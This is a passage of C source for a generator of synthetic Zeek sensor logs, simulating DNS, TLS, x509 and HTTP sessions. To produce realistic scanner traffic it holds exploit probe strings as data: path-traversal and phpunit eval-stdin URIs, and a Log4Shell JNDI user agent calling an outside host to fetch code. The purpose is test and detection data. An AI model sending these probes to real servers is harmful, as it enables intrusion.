/*
 * gen_zeek.c: Zeek sessions for the generator. One session is what a sensor logs for one
 * piece of activity: a DNS lookup (dns.log + the UDP conn), a TLS visit (lookup, TCP conn,
 * ssl.log, x509.log for certificates not yet logged today), a plain HTTP exchange, an SSH
 * login or brute-force attempt, NTP, internal AD/SMB/LDAP traffic, scans, pings, mDNS.
 * Records of one session share the connection uid, addresses and ports, and their
 * timestamps follow the protocol (dns before conn, ssl one RTT after the SYN...).
 *
 * `logs` restricts what is pushed: zeek-conn asks only for GL_CONN, so the blend of
 * services in conn.log is the same as in zeek-mix; zeek-dns asks only for GL_DNS, etc.
 * Rendering lives in gen_zeek_fmt.c.
 */
#include "gen_int.h"

#define BIT(l) (1u << (l))

struct flow {
    struct gen_uid uid;
    struct gen_ep ep;
    uint8_t proto;
    const char *sensor;
    int64_t t0;
    int64_t rtt; /* microseconds */
};

enum cst {
    CS_SF,
    CS_S0,
    CS_REJ,
    CS_RSTO,
    CS_RSTR,
    CS_SH,
    CS_S1,
    CS_OTH,
    CS_RSTOS0,
    CS_S3,
};

static const char *const cst_names[] = {"SF", "S0", "REJ", "RSTO",   "RSTR",
                                        "SH", "S1", "OTH", "RSTOS0", "S3"};

static int64_t rtt_for(struct wd_gen *g, uint32_t a, uint32_t b)
{
    if (gen_is_local(a) && gen_is_local(b))
        return gen_range(&g->rng, 80, 900);
    uint32_t ext = gen_is_local(a) ? b : a;
    /* a stable base RTT per remote /24, with jitter */
    int64_t base = 4000 + (int64_t)(gen_mix(ext >> 8) % 140000);
    return base + gen_range(&g->rng, 0, base / 8);
}

static void flow_init(struct wd_gen *g, struct flow *f, uint32_t oh, uint16_t op, uint32_t rh,
                      uint16_t rp, uint8_t proto, int64_t t0)
{
    f->uid = wd_gen_uid(&g->rng);
    f->ep.oh = oh;
    f->ep.op = op;
    f->ep.rh = rh;
    f->ep.rp = rp;
    f->proto = proto;
    f->t0 = t0;
    f->sensor = wd_gen_sensor(gen_is_local(oh) ? oh : rh);
    f->rtt = rtt_for(g, oh, rh);
}

static uint32_t pick_client(struct wd_gen *g)
{
    return wd_gen_ws_ip((uint32_t)gen_skew(&g->rng, GEN_NWS));
}

static const struct gen_server *server_by_role(struct wd_gen *g, const char *role)
{
    const struct gen_server *c[16];
    size_t n = 0;
    for (size_t i = 0; i < wd_gen_nservers && n < WD_ARRAY_LEN(c); i++)
        if (strcmp(wd_gen_servers[i].role, role) == 0)
            c[n++] = &wd_gen_servers[i];
    return n ? c[gen_below(&g->rng, n)] : &wd_gen_servers[0];
}

/* Payload bytes with a long tail: usually 2^lo..2^hi, 3% of the time up to 2^tail. */
static uint64_t tail_bytes(struct wd_gen *g, unsigned lo, unsigned hi, unsigned tail)
{
    if (gen_chance(&g->rng, 30))
        return wd_gen_logu(&g->rng, hi, tail);
    return wd_gen_logu(&g->rng, lo, hi);
}

/* ---- conn.log ------------------------------------------------------------------------ */

static const char *const sf_hist[] = {"ShADadFf", "ShADadFf", "ShADadfF", "ShAdDaFf",
                                      "ShADadFf", "ShADaFdf", "ShADadtFf"};

static void emit_conn(struct wd_gen *g, const struct flow *f, const char *service, int st,
                      uint64_t ob, uint64_t rb, int64_t dur, uint32_t npk)
{
    struct gen_rec *r = wd_gen_push(g, f->t0, GL_CONN);
    if (!r)
        return;
    struct gen_conn *c = &r->u.conn;
    struct gen_rng *rng = &g->rng;
    r->sensor = f->sensor;
    c->uid = f->uid;
    c->ep = f->ep;
    c->proto = f->proto;
    c->service = service;
    c->state = cst_names[st];
    c->missed = 0;
    c->history = NULL;
    c->dur_us = dur;
    c->ob = (int64_t)ob;
    c->rb = (int64_t)rb;
    uint32_t syn = gen_is_local(f->ep.oh) ? 60 : 44;
    int64_t delay = gen_range(rng, 1000, 30000);

    if (f->proto == GEN_ICMP) {
        c->opk = npk;
        c->oipb = (uint32_t)(ob + 28ull * npk);
        c->rpk = st == CS_OTH && rb ? npk : 0;
        c->ripb = (uint32_t)(rb + 28ull * c->rpk);
        c->state = "OTH";
        r->write_us = f->t0 + dur + 60 * GEN_US;
        return;
    }
    if (f->proto == GEN_UDP) {
        c->opk = npk ? npk : 1;
        if (st == CS_S0) {
            c->history = "D";
            c->rb = 0;
            c->rpk = 0;
            c->ripb = 0;
            if (c->opk == 1)
                c->dur_us = c->ob = c->rb = GEN_UNSET;
            c->oipb = (uint32_t)(ob + 28ull * c->opk);
        } else {
            c->history = "Dd";
            c->rpk = c->opk;
            c->oipb = (uint32_t)(ob + 28ull * c->opk);
            c->ripb = (uint32_t)(rb + 28ull * c->rpk);
        }
        r->write_us = f->t0 + (dur > 0 ? dur : 0) + 60 * GEN_US + delay;
        return;
    }
    /* TCP */
    uint32_t opk = (uint32_t)(2 + ob / 1448 + rb / 2896),
             rpk = (uint32_t)(1 + rb / 1448 + ob / 2896);
    switch (st) {
    case CS_SF:
        c->history = GEN_PICK(rng, sf_hist);
        opk += 2;
        rpk += 2;
        if (gen_chance(rng, 4))
            c->missed = (uint64_t)gen_range(rng, 1, (int64_t)(rb / 2 + 1));
        break;
    case CS_S1:
        c->history = gen_chance(rng, 500) ? "ShADad" : "ShAD";
        break;
    case CS_S3:
        c->history = "ShADadf";
        opk += 1;
        rpk += 2;
        break;
    case CS_RSTO:
        c->history = gen_chance(rng, 600) ? "ShADadR" : "ShADaR";
        opk += 2;
        break;
    case CS_RSTR:
        if (ob == 0 && rb == 0) {
            c->history = "ShAr";
            opk = 2;
            rpk = 2;
        } else {
            c->history = "ShADadr";
            rpk += 1;
        }
        break;
    case CS_REJ:
        c->history = "Sr";
        c->ob = c->rb = 0;
        c->opk = 1;
        c->oipb = syn;
        c->rpk = 1;
        c->ripb = 40;
        c->dur_us = f->rtt;
        r->write_us = f->t0 + f->rtt + delay;
        return;
    case CS_S0:
    case CS_SH:
    case CS_RSTOS0:
        c->history = st == CS_S0 ? "S" : st == CS_SH ? "SF" : "SR";
        c->opk = npk ? npk : 1;
        c->oipb = syn * c->opk;
        c->rpk = 0;
        c->ripb = 0;
        if (c->opk == 1 && st == CS_S0) {
            c->dur_us = c->ob = c->rb = GEN_UNSET;
        } else {
            c->ob = c->rb = 0;
            if (dur < 0)
                c->dur_us = (int64_t)(c->opk - 1) * 1000000 + gen_range(rng, 0, 9000);
        }
        r->write_us = f->t0 + (c->dur_us > 0 ? c->dur_us : 0) + 10 * GEN_US + delay;
        return;
    case CS_OTH:
    default:
        c->history = gen_chance(rng, 500) ? "Dd" : "^dA";
        break;
    }
    c->opk = opk;
    c->rpk = rpk;
    c->oipb = (uint32_t)(ob + (uint64_t)opk * 52 + 8);
    c->ripb = (uint32_t)(rb + (uint64_t)rpk * 52);
    r->write_us = f->t0 + (dur > 0 ? dur : 0) + delay + (st == CS_S1 ? 300 * GEN_US : 0);
}

/* A typical state for an ordinary TCP conversation. */
static int tcp_state(struct wd_gen *g)
{
    static const uint16_t w[] = {880, 10, 0, 35, 30, 8, 20, 10, 2, 5};
    return (int)wd_gen_pick(&g->rng, w, WD_ARRAY_LEN(w));
}

/* ---- dns.log ------------------------------------------------------------------------- */

struct qa {
    const char *name; /* text answer */
    const char *v6;
    uint32_t ip;
    uint32_t ttl;
};

static void push_dns(struct wd_gen *g, const struct flow *f, int64_t ts, uint16_t tid,
                     const char *q, uint16_t qtype, int rcode, int64_t rtt, const struct qa *a,
                     size_t na, bool aa)
{
    struct gen_rec *r = wd_gen_push(g, ts, GL_DNS);
    if (!r)
        return;
    struct gen_dns *d = &r->u.dns;
    r->sensor = f->sensor;
    d->uid = f->uid;
    d->ep = f->ep;
    d->proto = f->proto;
    d->trans_id = tid;
    d->rtt_us = rtt;
    size_t ql = strlen(q);
    if (ql >= sizeof(d->query))
        ql = sizeof(d->query) - 1;
    memcpy(d->query, q, ql);
    d->query[ql] = '\0';
    d->qtype = qtype;
    d->rcode = (int16_t)rcode;
    d->aa = aa;
    d->tc = 0;
    d->rd = f->ep.rp != 5353;
    d->ra = rcode != GEN_UNSET && d->rd;
    d->rejected = rcode == 5;
    d->nans = (uint8_t)WD_MIN(na, WD_ARRAY_LEN(d->ans));
    for (size_t i = 0; i < d->nans; i++) {
        d->ans[i].name = a[i].name;
        d->ans[i].v6 = a[i].v6;
        d->ans[i].ip = a[i].ip;
        d->ans[i].ttl = a[i].ttl;
    }
    r->write_us = ts + (rtt > 0 ? rtt : 10 * GEN_US) + gen_range(&g->rng, 50, 2000);
}

static size_t dns_len(const char *q)
{
    return 12 + strlen(q) + 2 + 4;
}

/*
 * A resolver lookup from `client` for `q`. `ip` is the address answered first (what the
 * client then connects to). Pushes the dns records (A, and AAAA half the time, on the
 * same socket) and the UDP conn, as `logs` allows. Returns when the answer arrived.
 */
static int64_t lookup(struct wd_gen *g, int64_t t0, uint32_t client, const char *q,
                      const struct gen_site *site, uint32_t ip, unsigned logs)
{
    struct gen_rng *rng = &g->rng;
    struct flow f;
    uint32_t resolver = gen_chance(rng, 700) ? GEN_IP(10, 0, 0, 2) : GEN_IP(10, 0, 0, 3);
    flow_init(g, &f, client, wd_gen_eport(rng), resolver, 53, GEN_UDP, t0);
    bool cached = gen_chance(rng, 750);
    int64_t rtt = cached ? gen_range(rng, 150, 1800) : gen_range(rng, 8000, 90000);
    struct qa a[4];
    size_t na = 0;
    bool local = ip && gen_is_local(ip);
    if (site && site->cname)
        a[na++] = (struct qa){site->cname, NULL, 0, (uint32_t)gen_range(rng, 30, 3600)};
    uint32_t ttl = local ? 3600 : (uint32_t)gen_range(rng, 5, 300);
    a[na++] = (struct qa){NULL, NULL, ip, ttl};
    if (site && site->pool > 1 && !local)
        a[na++] = (struct qa){NULL, NULL, site->net + (uint32_t)gen_below(rng, site->pool), ttl};
    uint64_t ob = dns_len(q), rb = ob + na * 16 + (site && site->cname ? strlen(site->cname) : 0);
    uint32_t nq = 1;
    if (logs & BIT(GL_DNS))
        push_dns(g, &f, t0, (uint16_t)gen_rand(rng), q, 1, 0, rtt, a, na, local);
    if (!local && gen_chance(rng, 500)) {
        /* AAAA on the same socket right after */
        struct qa b[3];
        size_t nb = 0;
        if (site && site->cname)
            b[nb++] = a[0];
        if (site && site->v6)
            b[nb++] = (struct qa){NULL, site->v6, ip, ttl};
        int64_t t1 = t0 + gen_range(rng, 20, 400);
        if (logs & BIT(GL_DNS))
            push_dns(g, &f, t1, (uint16_t)gen_rand(rng), q, 28, 0, rtt, b, nb, false);
        nq = 2;
        ob += dns_len(q);
        rb += dns_len(q) + nb * 28;
    }
    if (logs & BIT(GL_CONN))
        emit_conn(g, &f, "dns", CS_SF, ob, rb, rtt + (int64_t)(nq - 1) * 300, nq);
    return t0 + rtt + (int64_t)(nq - 1) * 300;
}

static const char *const nx_names[] = {
    "wpad.corp.example.com",
    "isatap.corp.example.com",
    "gogle.com",
    "printer-3.corp.example.com",
    "outlook.office365.co",
    "localhost.corp.example.com",
    "_ldap._tcp.pdc._msdcs.corp.example.com",
    "githbu.com",
};

static const char *const mdns_names[] = {
    "_googlecast._tcp.local",      "_airplay._tcp.local", "_companion-link._tcp.local",
    "_spotify-connect._tcp.local", "_ipp._tcp.local",     "_raop._tcp.local",
};

/* A standalone resolver exchange (not followed by a connection in this session). */
static void session_lookup(struct wd_gen *g, int64_t t0, unsigned logs)
{
    struct gen_rng *rng = &g->rng;
    static const uint16_t w[] = {600, 120, 50, 60, 80, 50, 20, 20, 10, 3};
    uint32_t client = gen_chance(rng, 900) ? pick_client(g) : server_by_role(g, "web")->ip;
    char q[128];
    struct qa a[4];
    size_t na = 0;
    struct flow f;
    uint16_t qtype = 1;
    int rcode = 0;
    bool aa = false;
    uint32_t resolver = gen_chance(rng, 700) ? GEN_IP(10, 0, 0, 2) : GEN_IP(10, 0, 0, 3);

    switch (wd_gen_pick(rng, w, WD_ARRAY_LEN(w))) {
    case 0: { /* a popular site */
        const struct gen_site *s = wd_gen_pick_site(rng);
        lookup(g, t0, client, s->domain, s, s->net + (uint32_t)gen_below(rng, s->pool), logs);
        return;
    }
    case 1: { /* an internal host name */
        const struct gen_server *sv = &wd_gen_servers[gen_below(rng, wd_gen_nservers)];
        char *p = gen_puts(q, sv->name);
        p = GEN_LIT(p, ".corp.example.com");
        *p = '\0';
        a[na++] = (struct qa){NULL, NULL, sv->ip, 3600};
        aa = true;
        break;
    }
    case 2: /* AD service records */
        memcpy(q, "_ldap._tcp.dc._msdcs.corp.example.com", 38);
        qtype = 33;
        a[na++] = (struct qa){"dc-01.corp.example.com", NULL, 0, 600};
        a[na++] = (struct qa){"dc-02.corp.example.com", NULL, 0, 600};
        aa = true;
        break;
    case 3: { /* reverse lookup of an internal address */
        const struct gen_server *sv = &wd_gen_servers[gen_below(rng, wd_gen_nservers)];
        uint32_t ip = gen_chance(rng, 500) ? sv->ip : pick_client(g);
        char *p = q;
        for (int i = 0; i < 4; i++) {
            p = wd_gen_put_u64(p, (ip >> (i * 8)) & 0xff);
            *p++ = '.';
        }
        p = GEN_LIT(p, "in-addr.arpa");
        *p = '\0';
        qtype = 12;
        aa = true;
        if (ip == sv->ip)
            a[na++] = (struct qa){sv->name, NULL, 0, 3600};
        else
            rcode = 3;
        break;
    }
    case 4: /* NXDOMAIN: typos, WPAD, stale names */
    {
        const char *n = GEN_PICK(rng, nx_names);
        memcpy(q, n, strlen(n) + 1);
    }
        rcode = 3;
        break;
    case 5: { /* DGA-like names from one infected workstation */
        client = wd_gen_ws_ip(1337);
        char *p = q;
        int len = (int)gen_range(rng, 10, 18);
        for (int i = 0; i < len; i++)
            *p++ = (char)('a' + gen_below(rng, 26));
        static const char *const tl[] = {".com", ".net", ".info", ".biz", ".top"};
        p = gen_puts(p, GEN_PICK(rng, tl));
        *p = '\0';
        rcode = gen_chance(rng, 950) ? 3 : 0;
        if (!rcode)
            a[na++] = (struct qa){NULL, NULL, wd_gen_attacker_ip(rng), 60};
        break;
    }
    case 6: /* TXT */
        memcpy(q, "google.com", 11);
        qtype = 16;
        a[na++] = (struct qa){"TXT 34 v=spf1 include:_spf.google.com ~all", NULL, 0, 3600};
        break;
    case 7: /* MX */
        memcpy(q, "gmail.com", 10);
        qtype = 15;
        a[na++] = (struct qa){"gmail-smtp-in.l.google.com", NULL, 0, 3600};
        a[na++] = (struct qa){"alt1.gmail-smtp-in.l.google.com", NULL, 0, 3600};
        break;
    case 8: /* SERVFAIL / REFUSED / unanswered */
        memcpy(q, "status.corp-partner.net", 24);
        rcode = gen_chance(rng, 300) ? 5 : gen_chance(rng, 500) ? 2 : GEN_UNSET;
        break;
    default: { /* HTTPS record lookups by browsers */
        const struct gen_site *s = wd_gen_pick_site(rng);
        memcpy(q, s->domain, strlen(s->domain) + 1);
        qtype = 65;
        break;
    }
    }
    flow_init(g, &f, client, wd_gen_eport(rng), resolver, 53, GEN_UDP, t0);
    int64_t rtt = rcode == GEN_UNSET ? GEN_UNSET : gen_range(rng, 200, 40000);
    if (logs & BIT(GL_DNS))
        push_dns(g, &f, t0, (uint16_t)gen_rand(rng), q, qtype, rcode, rtt, a, na, aa);
    if (logs & BIT(GL_CONN)) {
        uint64_t ob = dns_len(q);
        emit_conn(g, &f, "dns", rcode == GEN_UNSET ? CS_S0 : CS_SF, ob, ob + 16 * na + 12, rtt,
                  rcode == GEN_UNSET ? 2 : 1);
    }
}

static void session_mdns(struct wd_gen *g, int64_t t0, unsigned logs)
{
    struct flow f;
    flow_init(g, &f, pick_client(g), 5353, GEN_IP(224, 0, 0, 251), 5353, GEN_UDP, t0);
    const char *q = GEN_PICK(&g->rng, mdns_names);
    if (logs & BIT(GL_DNS))
        push_dns(g, &f, t0, 0, q, 12, GEN_UNSET, GEN_UNSET, NULL, 0, false);
    if (logs & BIT(GL_CONN))
        emit_conn(g, &f, "dns", CS_S0, dns_len(q), 0, GEN_UNSET, 1);
}

/* ---- ssl.log and x509.log ------------------------------------------------------------ */

static void push_x509(struct wd_gen *g, const struct flow *f, int64_t ts, uint32_t cert)
{
    int64_t day = ts / (86400 * GEN_US) + 1;
    if (gen_cert_is_synth(cert)) {
        uint64_t key = ((uint64_t)cert << 24) | (uint64_t)(day & 0xffffff);
        uint64_t *slot = &g->dyn_seen[gen_mix(cert) & 255];
        if (*slot == key)
            return;
        *slot = key;
    } else {
        if (g->x509_seen[cert] == day)
            return;
        g->x509_seen[cert] = day;
    }
    struct gen_rec *r = wd_gen_push(g, ts, GL_X509);
    if (!r)
        return;
    r->sensor = f->sensor;
    r->u.x509.cert = cert;
    r->u.x509.host_cert = 1;
    r->u.x509.client_cert = 0;
    r->write_us = ts;
}

static const char *const tls13_ciphers[] = {
    "TLS_AES_128_GCM_SHA256", "TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384",
    "TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384", "TLS_CHACHA20_POLY1305_SHA256",
};
static const char *const tls12_rsa[] = {
    "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
    "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305_SHA256",
    "TLS_RSA_WITH_AES_128_CBC_SHA",
};
static const char *const tls12_ec[] = {
    "TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256",
    "TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384",
    "TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256",
};
static const char *const tls12_hist[] = {"CsxknGIi", "CsxknGIi", "CsxuknGIti", "CsxknGIti"};

/* TLS visit to a site (or a synthetic host when site is NULL). */
static void session_tls(struct wd_gen *g, int64_t t0, unsigned logs)
{
    struct gen_rng *rng = &g->rng;
    const struct gen_site *site = NULL;
    uint32_t cert, ip, client;
    char host[72];
    bool server_client = gen_chance(rng, 80);

    client = server_client ? server_by_role(g, gen_chance(rng, 500) ? "build" : "web")->ip
                           : pick_client(g);
    if (gen_chance(rng, 120)) {
        cert = wd_gen_cert_synth(gen_rand(rng) % 5000);
        wd_gen_synth_host(cert, host);
        ip = wd_gen_synth_ip(cert);
    } else {
        site = wd_gen_pick_site(rng);
        if (site->http == 2) /* plain-HTTP-only service */
            site = &wd_gen_sites[0];
        cert = site->cert;
        size_t n = strlen(site->domain);
        memcpy(host, site->domain, n + 1);
        ip = site->net + (uint32_t)gen_below(rng, site->pool);
    }
    int64_t t = t0;
    if (!site || (!gen_is_local(ip) && gen_chance(rng, 550)) || gen_chance(rng, 150)) {
        t = lookup(g, t0, client, host, site, ip, logs);
        t += gen_range(rng, 100, 3000);
    }

    struct flow f;
    flow_init(g, &f, client, wd_gen_eport(rng), ip, 443, GEN_TCP, t);
    int st = tcp_state(g);
    bool internal = gen_is_local(ip);
    bool ec_leaf = !gen_cert_is_synth(cert) && wd_gen_certs[cert].ec;
    int ver = internal ? 12 : gen_chance(rng, 700) ? 13 : gen_chance(rng, 970) ? 12 : 10;
    bool resumed = ver == 12 && gen_chance(rng, 180);
    uint64_t ob = tail_bytes(g, 9, 13, 24), rb = tail_bytes(g, 11, 19, 30);
    int64_t dur = f.rtt * 3 + (int64_t)wd_gen_logu(rng, 14, 26);
    if (st == CS_S0 || st == CS_SH || st == CS_RSTOS0)
        ob = rb = 0;
    if (logs & BIT(GL_CONN))
        emit_conn(g, &f, st == CS_SF || st == CS_S1 || st == CS_RSTO ? "ssl" : NULL, st, ob, rb,
                  dur, 1);
    if (st != CS_SF && st != CS_S1 && st != CS_RSTO && st != CS_RSTR)
        return;
    if (!(logs & (BIT(GL_SSL) | BIT(GL_X509))))
        return;

    int64_t ts = f.t0 + f.rtt + gen_range(rng, 50, 900);
    struct gen_rec *r = (logs & BIT(GL_SSL)) ? wd_gen_push(g, ts, GL_SSL) : NULL;
    uint32_t chain[3];
    size_t nchain = wd_gen_cert_chain(cert, chain);
    bool full = ver != 13 && !resumed;
    if (r) {
        struct gen_ssl *s = &r->u.ssl;
        r->sensor = f.sensor;
        r->write_us = ts + gen_range(rng, 100000, 9 * GEN_US);
        s->uid = f.uid;
        s->ep = f.ep;
        s->version = ver == 13 ? "TLSv13" : ver == 12 ? "TLSv12" : "TLSv10";
        if (ver == 13)
            s->cipher = GEN_PICK(rng, tls13_ciphers);
        else if (ec_leaf)
            s->cipher = GEN_PICK(rng, tls12_ec);
        else
            s->cipher = ver == 10 ? "TLS_RSA_WITH_AES_128_CBC_SHA" : GEN_PICK(rng, tls12_rsa);
        s->curve = strncmp(s->cipher, "TLS_RSA", 7) == 0 ? NULL
                   : gen_chance(rng, 750)                ? "x25519"
                                                         : "secp256r1";
        if (gen_chance(rng, 25))
            s->sni[0] = '\0';
        else
            memcpy(s->sni, host, strlen(host) + 1);
        s->resumed = resumed;
        s->established = st != CS_RSTR;
        s->next_proto = NULL;
        if (ver == 12 && !resumed) {
            uint64_t x = gen_below(rng, 10);
            s->next_proto = x < 6 ? "h2" : x < 9 ? "http/1.1" : NULL;
        }
        s->history = ver == 13 || resumed ? "CsiI" : GEN_PICK(rng, tls12_hist);
        if (!s->established)
            s->history = ver == 13 ? "Cs" : "Csxkn";
        s->nchain = 0;
        s->sni_match = GEN_UNSET;
        s->validation = NULL;
        if (full) {
            s->nchain = (uint8_t)nchain;
            memcpy(s->chain, chain, nchain * sizeof(chain[0]));
            if (s->sni[0])
                s->sni_match = 1;
            if (gen_cert_is_synth(cert) && nchain == 1)
                s->validation = "self signed certificate";
            else if (!gen_cert_is_synth(cert) && wd_gen_certs[chain[nchain - 1]].issuer &&
                     strstr(wd_gen_certs[chain[nchain - 1]].issuer, "Example Corp"))
                s->validation = "unable to get local issuer certificate";
            else
                s->validation = "ok";
        }
    }
    if (full && (logs & BIT(GL_X509))) {
        int64_t tx = ts + f.rtt + gen_range(rng, 20, 400);
        for (size_t i = 0; i < nchain; i++)
            push_x509(g, &f, tx + (int64_t)i, chain[i]);
    }
}

/* x509.log on its own: certificates as a sensor sees them over a day. */
static void session_x509(struct wd_gen *g, int64_t t0)
{
    struct gen_rng *rng = &g->rng;
    uint32_t cert = gen_chance(rng, 400) ? wd_gen_cert_synth(gen_rand(rng) % 50000)
                                         : wd_gen_pick_site(rng)->cert;
    uint32_t chain[3];
    size_t n = wd_gen_cert_chain(cert, chain);
    struct flow f;
    uint32_t client = pick_client(g);
    flow_init(g, &f, client, wd_gen_eport(rng), wd_gen_synth_ip(cert), 443, GEN_TCP, t0);
    for (size_t i = 0; i < n; i++) {
        struct gen_rec *r = wd_gen_push(g, t0 + (int64_t)i, GL_X509);
        if (!r)
            return;
        r->sensor = f.sensor;
        r->u.x509.cert = chain[i];
        r->u.x509.host_cert = 1;
        r->u.x509.client_cert = 0;
        r->write_us = r->ts_us;
    }
}

/* ---- http.log ------------------------------------------------------------------------ */

struct http_req {
    const char *method;
    const char *uri; /* may contain one %s-free literal; hex suffixes added by code */
    uint16_t status;
    const char *mime;
    uint32_t lo_bits, hi_bits; /* response body size */
};

static const struct http_req apt_reqs[] = {
    {"GET", "/ubuntu/dists/noble-updates/InRelease", 200, "text/plain", 16, 17},
    {"GET", "/ubuntu/dists/noble-security/InRelease", 304, NULL, 0, 0},
    {"GET", "/ubuntu/dists/noble-updates/main/binary-amd64/by-hash/SHA256/", 200,
     "application/x-xz", 17, 20},
    {"GET", "/ubuntu/pool/main/o/openssl/libssl3t64_3.0.13-0ubuntu3.4_amd64.deb", 200,
     "application/vnd.debian.binary-package", 20, 21},
    {"GET", "/ubuntu/pool/main/c/curl/curl_8.5.0-2ubuntu10.6_amd64.deb", 200,
     "application/vnd.debian.binary-package", 17, 18},
};

static const struct http_req web_reqs[] = {
    {"GET", "/", 200, "text/html", 12, 16},
    {"GET", "/favicon.ico", 200, "image/x-icon", 10, 13},
    {"GET", "/static/js/app.js", 200, "text/plain", 15, 19},
    {"GET", "/static/css/site.css", 304, NULL, 0, 0},
    {"GET", "/api/v1/status", 200, "application/json", 7, 10},
    {"POST", "/login", 302, "text/html", 8, 9},
    {"GET", "/images/logo.png", 200, "image/png", 12, 15},
    {"GET", "/robots.txt", 404, "text/html", 8, 9},
};

static const struct http_req scan_reqs[] = {
    {"GET", "/.env", 404, "text/html", 8, 9},
    {"GET", "/wp-login.php", 404, "text/html", 8, 9},
    {"GET", "/.git/config", 404, "text/html", 8, 9},
    {"GET", "/cgi-bin/luci/;stok=/locale", 404, "text/html", 8, 9},
    {"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "text/html", 8, 9},
    {"GET", "/actuator/health", 404, "text/html", 8, 9},
    {"POST", "/boaform/admin/formLogin", 404, "text/html", 8, 9},
    {"GET", "/solr/admin/info/system?wt=json", 404, "text/html", 8, 9},
    {"GET", "/owa/auth/logon.aspx", 404, "text/html", 8, 9},
    {"GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 400,
     "text/html", 8, 9},
    {"GET", "/.aws/credentials", 403, "text/html", 8, 9},
    {"GET", "/server-status", 403, "text/html", 8, 9},
    {"GET", "/phpmyadmin/index.php", 404, "text/html", 8, 9},
    {"GET", "/?XDEBUG_SESSION_START=phpstorm", 200, "text/html", 12, 14},
    {"GET", "/", 200, "text/html", 12, 14},
    {"HEAD", "/", 200, NULL, 0, 0},
    {"POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, "text/html", 8, 9},
};

static const char *const scan_ua[] = {
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/81.0.4044.129 Safari/537.36"),
    "${jndi:ldap://198.51.100.23:1389/Exploit}",
};

static void push_http(struct wd_gen *g, const struct flow *f, int64_t ts, uint16_t depth,
                      const char *host, const struct http_req *rq, const char *ua,
                      const char *referrer, const char *uri_suffix)
{
    struct gen_rec *r = wd_gen_push(g, ts, GL_HTTP);
    if (!r)
        return;
    struct gen_rng *rng = &g->rng;
    struct gen_http *h = &r->u.http;
    r->sensor = f->sensor;
    h->uid = f->uid;
    h->ep = f->ep;
    h->depth = depth;
    h->method = rq->method;
    size_t hl = WD_MIN(strlen(host), sizeof(h->host) - 1);
    memcpy(h->host, host, hl);
    h->host[hl] = '\0';
    char *u = gen_puts(h->uri, rq->uri);
    if (uri_suffix)
        u = gen_puts(u, uri_suffix);
    if (u[-1] == '/' && strstr(rq->uri, "by-hash"))
        u = wd_gen_put_hex(u, gen_rand(rng), 64, false);
    *u = '\0';
    h->referrer = referrer;
    h->ua = ua;
    h->req_len = strcmp(rq->method, "POST") == 0 ? wd_gen_logu(rng, 5, 9) : 0;
    h->status = rq->status;
    h->resp_len = rq->hi_bits ? wd_gen_logu(rng, rq->lo_bits, rq->hi_bits) : 0;
    if (strcmp(rq->method, "HEAD") == 0)
        h->resp_len = 0;
    h->orig_fuid.hi = 0;
    h->resp_fuid.hi = 0;
    h->orig_mime = NULL;
    h->resp_mime = NULL;
    if (h->req_len) {
        h->orig_fuid = wd_gen_uid(rng);
        h->orig_mime = strcmp(rq->uri, "/") == 0 && strstr(host, "ocsp")
                           ? "application/ocsp-request"
                           : "text/plain";
    }
    if (h->resp_len) {
        h->resp_fuid = wd_gen_uid(rng);
        h->resp_mime = rq->mime;
    }
    r->write_us = ts + f->rtt + gen_range(rng, 100, 200000);
}

static void session_http(struct wd_gen *g, int64_t t0, unsigned logs)
{
    struct gen_rng *rng = &g->rng;
    const struct gen_site *site;
    do {
        site = wd_gen_pick_site(rng);
    } while (!site->http);
    uint32_t client = pick_client(g);
    if (site->kind == GEN_SITE_UPDATE && gen_chance(rng, 300))
        client = wd_gen_servers[gen_below(rng, wd_gen_nservers)].ip;
    uint32_t ip = site->net + (uint32_t)gen_below(rng, site->pool);
    int64_t t = t0;
    if (!gen_is_local(ip) && gen_chance(rng, 500)) {
        t = lookup(g, t0, client, site->domain, site, ip, logs);
        t += gen_range(rng, 100, 2000);
    }
    struct flow f;
    flow_init(g, &f, client, wd_gen_eport(rng), ip, 80, GEN_TCP, t);
    const char *ua = wd_gen_browser_ua[gen_skew(rng, wd_gen_nbrowser_ua)];
    struct http_req one;
    const struct http_req *rq = NULL;
    size_t nreq = gen_chance(rng, 800) ? 1 : (size_t)gen_range(rng, 2, 4);
    const char *suffix = NULL;
    char qs[24];
    uint64_t ob = 0, rb = 0;
    int64_t ts = f.t0 + f.rtt + gen_range(rng, 30, 500);

    for (size_t i = 0; i < nreq; i++) {
        if (strstr(site->domain, "ubuntu.com") && site->domain[0] != 'c') {
            rq = &apt_reqs[gen_below(rng, WD_ARRAY_LEN(apt_reqs))];
            ua = "Debian APT-HTTP/1.3 (2.7.14build2)";
        } else if (strstr(site->domain, "detectportal")) {
            one = (struct http_req){
                "GET", gen_chance(rng, 500) ? "/canonical.html" : "/success.txt?ipv4",
                200,   "text/plain",
                3,     6};
            rq = &one;
        } else if (strstr(site->domain, "ocsp")) {
            one = (struct http_req){"POST", "/", 200, "application/ocsp-response", 8, 9};
            rq = &one;
        } else if (strstr(site->domain, "windowsupdate")) {
            one = (struct http_req){
                "GET", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab?",
                200,   "application/vnd.ms-cab-compressed",
                12,    13};
            rq = &one;
            ua = "Microsoft-CryptoAPI/10.0";
            *wd_gen_put_hex(qs, gen_rand(rng), 16, false) = '\0';
            suffix = qs;
        } else if (strstr(site->domain, "connectivity-check")) {
            one = (struct http_req){"GET", "/", 204, NULL, 0, 0};
            rq = &one;
            ua = NULL;
        } else if (!gen_is_local(ip)) {
